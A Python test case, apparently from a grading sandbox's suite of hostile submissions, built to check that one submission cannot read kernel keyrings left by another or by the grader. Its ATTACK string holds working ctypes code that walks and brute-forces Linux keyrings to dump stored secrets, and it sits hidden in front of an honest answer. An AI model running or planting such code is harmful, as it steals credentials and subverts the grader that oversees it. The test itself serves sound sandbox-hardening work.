"""Takes what an earlier submission left in a keyring, or what the grader keeps in one."""

from tests.hostile.case import HONEST, MARK, Case

ATTACK = r"""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
FOUND, text = [], ctypes.create_string_buffer(4096)


def read(key, depth=0):
    size = libc.syscall(250, 11, key, text, 4096)  # KEYCTL_READ
    if size < 0:
        return
    data = text.raw[:size]
    libc.syscall(250, 6, key, text, 4096)  # KEYCTL_DESCRIBE
    if text.value.startswith(b"keyring") and depth < 5:
        for place in range(0, size, 4):
            read(int.from_bytes(data[place : place + 4], "little", signed=True), depth + 1)
    else:
        FOUND.append((text.value, data))


for ring in (-1, -2, -3, -4, -5, -6, -7, -8):
    read(ring)
    key = libc.syscall(250, 10, ring, b"user", b"MARK", 0)  # KEYCTL_SEARCH
    if key > 0:
        read(key)
for key in range(1, 2**20):
    libc.syscall(250, 11, key, text, 4096) >= 0 and FOUND.append(key)
    if key > 50_000:
        break
print(FOUND)
assert FOUND
""".replace("MARK", MARK)
# Its name comes after keyring_leave: the same fork server runs it next.
CASE = Case(
    cells={"answer": ATTACK + HONEST["answer"]},
    lost={"test_answer"},
)
